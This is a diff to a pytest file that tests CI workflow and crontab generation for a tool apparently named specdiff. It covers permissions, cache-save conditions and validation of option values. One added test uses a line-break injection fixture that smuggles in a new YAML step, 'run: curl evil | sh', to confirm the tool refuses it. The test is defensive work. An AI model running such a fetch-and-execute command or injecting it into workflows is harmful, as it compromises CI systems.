@@ -106,7 +106,9 @@ def test_permissions_are_minimal() -> None:
     assert workflow(CiSettings(state_store="commit"))["permissions"] == {"contents": "write"}
     assert workflow(CiSettings(trigger="pull-request"))["permissions"] == {"contents": "read"}
     scanning = workflow(CiSettings(trigger="pull-request", code_scanning=True))
-    assert scanning["permissions"] == {"contents": "read", "security-events": "write"}
+    # upload-sarif reads the workflow run (its analysis key): without actions: read, every
+    # private repository's upload is refused
+    assert scanning["permissions"] == {"contents": "read", "security-events": "write", "actions": "read"}
     found = steps(workflow(CiSettings()))
     assert found["actions/checkout"]["with"]["persist-credentials"] is False
 
@@ -129,10 +131,20 @@ def test_the_workflow_keeps_state_wheels_and_formatted_stubs() -> None:
         assert restore["with"]["path"] == save["with"]["path"] == path
         assert restore["with"]["restore-keys"].strip().endswith("-")
         # saved even when the watch failed on --fail-on, or the next run would report it again
-        assert save["if"] == "always()"
+        assert save["if"] == "always()" or save["if"].startswith("${{ always() && ")
         assert order.index(f"Restore the {what}") < order.index("Compare what is new") < order.index(f"Save the {what}")
     # the wheels are saved under the new state's hash: only when the state moved
-    assert "hashFiles('state dir/*.json')" in found["Save the botocore wheels"]["with"]["key"]
+    save = found["Save the botocore wheels"]
+    assert save["with"]["key"] == "specdiff-wheels-${{ hashFiles('state dir/*.json') }}"
+    # ... and not tried when it did not: a save under a key that exists packs the whole
+    # cache, then fails with a warning on every quiet night. The condition compares the
+    # entry restored with exactly the key the save would use.
+    restore = found["Restore the botocore wheels"]
+    condition = re.fullmatch(r"\$\{\{ always\(\) && steps\.(\w+)\.outputs\.cache-matched-key != format\('(.*?)', (hashFiles\(.*\))\) \}\}", save["if"])
+    assert condition is not None, save["if"]
+    step_id, template, digest = condition.groups()
+    assert restore["id"] == step_id
+    assert template.replace("{0}", "${{ " + digest + " }}") == save["with"]["key"]
     assert workflow(settings)["jobs"]["watch"]["env"]["SPECDIFF_CACHE"] == settings.cache_dir
     assert "--cache" in run_command(workflow(settings))
     # a folder source needs no wheels
@@ -324,6 +336,21 @@ def test_init_ci_refuses_what_would_break_the_workflow(tmp_path: Path, args: lis
     assert not (tmp_path / "w.yml").exists()
 
 
+@pytest.mark.parametrize("option", ["--service", "--exclude-service", "--operation", "--source", "--state", "--out", "--cache", "--since", "--python", "--workdir"])
+@pytest.mark.parametrize("mode", [[], ["--on", "pull-request"], ["--cron"]])
+@pytest.mark.parametrize("breaker", ["\n", "\r", "\u2028", "\x00"])
+def test_a_value_cannot_break_out_of_its_line(tmp_path: Path, option: str, mode: list[str], breaker: str) -> None:
+    # a line break in a value ended the `run: |` script: what followed was YAML (a new
+    # step, "run: curl evil | sh"), or in a crontab a new entry
+    value = f"s3{breaker}      - name: evil{breaker}        run: curl evil | sh"
+    out = tmp_path / "w.yml"
+    result = CliRunner().invoke(app, ["init-ci", "-o", str(out), "--install", ".", *mode, option, value])
+    assert result.exit_code == 2, result.output
+    (line,) = result.stderr.splitlines()
+    assert line.startswith(f"specdiff: error: {option}: ") and "line break or control character" in line
+    assert not out.exists()
+
+
 def test_specdiff_by_name_is_refused_with_the_way_out(tmp_path: Path) -> None:
     result = CliRunner().invoke(app, ["init-ci", "-o", str(tmp_path / "w.yml"), "--install", "specdiff"])
     assert "not published on the package index" in result.stderr and "git+https://" in result.stderr
@@ -382,3 +409,12 @@ def test_docs_show_the_crontab_init_ci_writes() -> None:
     docs = (Path(__file__).resolve().parents[2] / "docs" / "ci.md").read_text()
     (entry,) = [line for line in render_crontab(CiSettings()).splitlines() if line.startswith("17 6 ")]
     assert entry in docs.splitlines()
+
+
+def test_every_text_setting_is_checked_for_line_breaks() -> None:
+    import dataclasses
+
+    from specdiff.job.workflow import _OPTIONS
+
+    texts = {f.name for f in dataclasses.fields(CiSettings) if not isinstance(getattr(CiSettings(), f.name), (bool, int))}
+    assert texts == set(_OPTIONS)
